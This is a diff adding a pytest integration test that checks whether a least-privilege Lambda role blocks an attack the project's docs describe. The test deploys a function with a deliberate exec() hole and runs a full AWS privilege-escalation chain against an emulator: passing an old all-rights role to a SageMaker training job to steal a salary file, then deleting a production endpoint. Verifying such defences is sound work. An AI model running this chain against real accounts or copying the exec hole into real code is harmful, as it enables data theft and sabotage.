@@ -1,0 +1,209 @@
+"""The security step of docs/security-step.md: an attack on a function's role that works, and after the mend does not.
+
+Whoever runs code in a function has its role. The code below is run there, with the credentials that the function has.
+"""
+
+import io
+import json
+import uuid
+import zipfile
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from samcli.yamlhelper import yaml_parse
+
+from tests.contract.test_permissions import Resolver, statements
+from tests.integration.laptop import ACCOUNT, IMAGE, REGION, ROOT, Cloud, endpoint_with, eventually, make_config
+
+# What matters here of AmazonSageMakerFullAccess (v29 of 2026-02-12). The whole policy has 50 statements.
+FULL_ACCESS: list[dict[str, Any]] = [
+    {
+        "Effect": "Allow",
+        "Action": ["sagemaker:*"],
+        "NotResource": [f"arn:aws:sagemaker:*:*:{kind}/*" for kind in ("domain", "user-profile", "app", "space")],
+    },
+    {
+        "Effect": "Allow",
+        "Action": ["iam:ListRoles", "ecr:BatchGetImage", "ecr:GetAuthorizationToken", "logs:CreateLogStream"],
+        "Resource": "*",
+    },
+    {
+        "Effect": "Allow",
+        "Action": ["s3:GetObject", "s3:PutObject", "s3:DeleteObject"],
+        "Resource": ["arn:aws:s3:::*SageMaker*", "arn:aws:s3:::*sagemaker*"],
+    },
+    {"Effect": "Allow", "Action": ["s3:CreateBucket", "s3:ListBucket", "s3:ListAllMyBuckets"], "Resource": "*"},
+    {
+        "Effect": "Allow",
+        "Action": "iam:PassRole",
+        "Resource": "arn:aws:iam::*:role/*",
+        "Condition": {"StringEquals": {"iam:PassedToService": "sagemaker.amazonaws.com"}},
+    },
+]
+EVERYTHING = {"Effect": "Allow", "Action": "*", "Resource": "*"}
+BUCKET, SECRET, LOOT = "bucket", "salaries/2026.csv", "sagemaker-loot"
+# A function that runs what its caller sends, in place of a hole in its code or in a package.
+HOLE = """
+import boto3
+
+def handler(event, context):
+    names = {"boto3": boto3, "event": event}
+    try:
+        exec(event["code"], names)
+    except Exception as error:
+        return {"refused": str(error)}
+    return {"done": names.get("result")}
+"""
+READ_IT = "result = boto3.client('s3').get_object(Bucket=event['bucket'], Key=event['key'])['Body'].read().decode()"
+FIND_ROLES = "result = [role['RoleName'] for role in boto3.client('iam').list_roles()['Roles']]"
+MAKE_BUCKET = """
+s3 = boto3.client("s3")
+s3.create_bucket(Bucket=event["bucket"])
+s3.put_object(Bucket=event["bucket"], Key="code/launch.py", Body=event["program"].encode())
+"""
+# The job reads the secret with the role that it is given, and its model is the secret.
+PROGRAM = """
+import os, shutil
+root = os.environ["OPT_ML"]
+shutil.copytree(f"{root}/input/data/secret", f"{root}/model", dirs_exist_ok=True)
+"""
+START_JOB = """
+def channel(name, uri):
+    return {"ChannelName": name, "DataSource": {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": uri}}}
+
+boto3.client("sagemaker").create_training_job(
+    TrainingJobName=event["job"],
+    RoleArn=event["role"],
+    AlgorithmSpecification={"TrainingImage": event["image"], "TrainingInputMode": "File"},
+    InputDataConfig=[channel("code", event["code_uri"]), channel("secret", event["secret_uri"])],
+    OutputDataConfig={"S3OutputPath": event["output_uri"]},
+    ResourceConfig={"InstanceCount": 1, "InstanceType": "ml.m5.large", "VolumeSizeInGB": 1},
+    StoppingCondition={"MaxRuntimeInSeconds": 60},
+)
+"""
+FETCH_MODEL = """
+import io, tarfile
+body = boto3.client("s3").get_object(Bucket=event["bucket"], Key=event["key"])["Body"].read()
+with tarfile.open(fileobj=io.BytesIO(body)) as archive:
+    result = archive.extractfile("2026.csv").read().decode()
+"""
+DELETE = "boto3.client('sagemaker').delete_endpoint(EndpointName=event['endpoint'])"
+ASK = """
+answer = boto3.client("sagemaker-runtime").invoke_endpoint(
+    EndpointName=event["endpoint"], Body=b"photo", ContentType="image/jpeg"
+)
+result = answer["ResponseMetadata"]["HTTPStatusCode"]
+"""
+
+
+class Attacker:
+    """Somebody who runs code inside a function.
+
+    Args:
+        cloud: the cloud.
+        role: the function's role.
+    """
+
+    def __init__(self, cloud: Cloud, role: str) -> None:
+        self.role = role.rpartition("/")[2]
+        self.function = f"classify-{uuid.uuid4().hex[:6]}"
+        self._functions = cloud.client("lambda")
+        code = io.BytesIO()
+        with zipfile.ZipFile(code, "w") as archive:
+            archive.writestr("hole.py", HOLE)
+        settings = {"Runtime": "python3.11", "Handler": "hole.handler", "Timeout": 60}
+        self._functions.create_function(
+            FunctionName=self.function, Role=role, Code={"ZipFile": code.getvalue()}, **settings
+        )
+
+    def run(self, code: str, **event: str) -> dict[str, Any]:
+        """Run code in the function and return ``{"done": result}`` or ``{"refused": words}``."""
+        answer = self._functions.invoke(
+            FunctionName=self.function, Payload=json.dumps({"code": code, **event}).encode()
+        )
+        document: dict[str, Any] = json.loads(answer["Payload"].read())
+        return document
+
+    def assert_refused(self, answer: dict[str, Any], action: str, on: str = "") -> None:
+        """Compare a refusal with AWS's words. Services that are MiniStack's own leave out the resource.
+
+        Args:
+            answer: what ``run`` returned.
+            action: the action that no policy of the function's role allows.
+            on: the resource's ARN, or an empty string for a service of MiniStack.
+        """
+        user = f"arn:aws:sts::{ACCOUNT}:assumed-role/{self.role}/{self.function}"
+        resource = f" on resource: {on}" if on else ""
+        why = f"because no identity-based policy allows the {action} action"
+        assert f"User: {user} is not authorized to perform: {action}{resource} {why}" in answer["refused"]
+
+
+@pytest.fixture(scope="module")
+def account(cloud: Cloud) -> Iterator[Cloud]:
+    """An account with a production endpoint, a secret in a bucket, and an old role with all rights."""
+    s3, sagemaker = cloud.client("s3"), cloud.client("sagemaker")
+    s3.create_bucket(Bucket=BUCKET)
+    s3.put_object(Bucket=BUCKET, Key=SECRET, Body=b"anna,95000")
+    cloud.make_role("AmazonSageMaker-ExecutionRole-2023", EVERYTHING)
+    sagemaker.create_endpoint(EndpointName="kennel", EndpointConfigName=make_config(cloud, "one", 1))
+    endpoint_with(sagemaker, "kennel")
+    yield cloud
+    if sagemaker.list_endpoints(NameContains="kennel")["Endpoints"]:
+        sagemaker.delete_endpoint(EndpointName="kennel")
+
+
+def job_of(name: str) -> dict[str, str]:
+    return {
+        "job": name,
+        "role": f"arn:aws:iam::{ACCOUNT}:role/AmazonSageMaker-ExecutionRole-2023",
+        "image": IMAGE,
+        "code_uri": f"s3://{LOOT}/code/",
+        "secret_uri": f"s3://{BUCKET}/{SECRET.rpartition('/')[0]}/",
+        "output_uri": f"s3://{LOOT}/out",
+    }
+
+
+def test_role_of_least_rights_refuses_the_attack_in_awss_words(account: Cloud) -> None:
+    template = yaml_parse((ROOT / "template.yaml").read_text())
+    assert Resolver(template).ref("Bucket") == BUCKET
+    attacker = Attacker(account, account.make_role("classify-least", *statements(template, "ClassifyFunctionRole")))
+    job = job_of(f"theft-{uuid.uuid4().hex[:6]}")
+    arn = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}"
+    attempts = [
+        (FIND_ROLES, {}, "iam:ListRoles", ""),
+        (READ_IT, {"bucket": BUCKET, "key": SECRET}, "s3:GetObject", ""),
+        (MAKE_BUCKET, {"bucket": f"{LOOT}-2", "program": PROGRAM}, "s3:CreateBucket", ""),
+        (START_JOB, job, "sagemaker:CreateTrainingJob", f"{arn}:training-job/{job['job']}"),
+        (DELETE, {"endpoint": "kennel"}, "sagemaker:DeleteEndpoint", f"{arn}:endpoint/kennel"),
+    ]
+    for code, event, action, on in attempts:
+        attacker.assert_refused(attacker.run(code, **event), action, on)
+    # It still does what it is for.
+    assert attacker.run(ASK, endpoint="kennel") == {"done": 200}
+    attacker.assert_refused(
+        attacker.run(ASK, endpoint="another"), "sagemaker:InvokeEndpoint", f"{arn}:endpoint/another"
+    )
+
+
+def test_role_with_full_access_reads_a_secret_through_another_role_and_deletes_production(account: Cloud) -> None:
+    attacker = Attacker(account, account.make_role("classify-full", *FULL_ACCESS))
+    assert attacker.run(ASK, endpoint="kennel") == {"done": 200}
+    # The policy itself does not allow to read that bucket …
+    attacker.assert_refused(attacker.run(READ_IT, bucket=BUCKET, key=SECRET), "s3:GetObject")
+    # … but it passes any role to a job, and an old one may read everything.
+    assert "AmazonSageMaker-ExecutionRole-2023" in attacker.run(FIND_ROLES)["done"]
+    assert attacker.run(MAKE_BUCKET, bucket=LOOT, program=PROGRAM) == {"done": None}
+    job = job_of(f"theft-{uuid.uuid4().hex[:6]}")
+    assert attacker.run(START_JOB, **job) == {"done": None}
+    sagemaker = account.client("sagemaker")
+    done = eventually(
+        lambda: sagemaker.describe_training_job(TrainingJobName=job["job"]),
+        lambda description: bool(description["TrainingJobStatus"] in ("Completed", "Failed")),
+        seconds=60,
+    )
+    assert done["TrainingJobStatus"] == "Completed", done
+    key = f"out/{job['job']}/output/model.tar.gz"
+    assert attacker.run(FETCH_MODEL, bucket=LOOT, key=key) == {"done": "anna,95000"}
+    assert attacker.run(DELETE, endpoint="kennel") == {"done": None}
+    eventually(lambda: sagemaker.list_endpoints(NameContains="kennel")["Endpoints"], lambda found: not found)
